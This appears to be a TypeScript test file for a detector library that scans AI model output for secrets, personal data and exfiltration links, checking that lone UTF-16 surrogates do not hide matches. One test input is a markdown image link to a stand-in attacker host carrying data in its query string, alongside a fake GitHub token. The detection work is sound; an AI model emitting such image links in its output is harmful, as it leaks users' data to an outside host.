// A lone UTF-16 surrogate (e.g. a JSON "\ud800" escape) in front of an entity must not hide it:
// node-re2 stops matching after one, so src/core/regex.ts makes text well-formed first (same length,
// so offsets stay valid).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { buildDetector } from '../../src/detectors/registry.ts';
import { compile, compileSet, matchAll } from '../../src/core/regex.ts';

const ctx = { role: 'assistant' as const, kind: 'output_text' as const, untrusted: false, direction: 'response' as const };
const KEY = 'ghp_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8';

test('matchAll and sets see past lone surrogates, offsets unchanged', () => {
  const text = '\ud800 x mail bob@corp.com';
  const m = matchAll(compile('t', '[a-z]+@[a-z]+\\.com'), text);
  assert.deepEqual(m.map((x) => text.slice(x.start, x.end)), ['bob@corp.com']);
  assert.deepEqual(compileSet('s', ['bob@', 'nothing']).match(text), [0]);
});

for (const [type, params, text, expected] of [
  ['secrets', {}, `\ud800 x ${KEY}`, 'GITHUB_TOKEN'],
  ['exfil_links', {}, '\udc00 ![a](https://evil.example.net/p?d=secret)', 'EXFIL_LINK'],
  ['pii', {}, '\ud800 write to jane.doe@example.com', 'EMAIL'],
] as const) {
  test(`${type}: an entity after a lone surrogate is still found`, () => {
    const d = buildDetector(type, type, params as Record<string, unknown>, { baseDir: '.' });
    const found = d.scan(text, ctx);
    assert.ok(found.some((f) => f.type === expected), `${expected} not found: ${JSON.stringify(found.map((f) => f.type))}`);
  });
}
